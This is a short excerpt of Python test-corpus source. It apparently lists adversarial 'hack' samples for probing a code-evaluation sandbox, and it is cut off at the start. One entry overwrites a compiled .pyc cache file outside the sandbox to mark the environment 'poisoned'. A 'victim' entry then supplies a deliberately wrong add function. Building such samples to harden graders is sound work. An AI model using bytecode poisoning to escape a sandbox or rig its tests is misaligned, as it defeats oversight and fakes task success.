            '            os.write(fd, data)\n'
            '            os.close(fd)\n'
            "            os.rename(away(pyc + '.new'), away(pyc),\n"
            '                      src_dir_fd=_box, dst_dir_fd=_box)\n'
            "            status = 'poisoned'\n"
            'except OSError as exc:\n'
            '    status = repr(exc)\n'
            'print(status)\n'
            '_bootstrap_poisoned = True\n'
        ),
    )),
    # TBD victim
    Hack('escape_bootstrap_victim', 'fallback_escape', forms(
        assert_=(
            '_bootstrap_poisoned = True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    )),
]
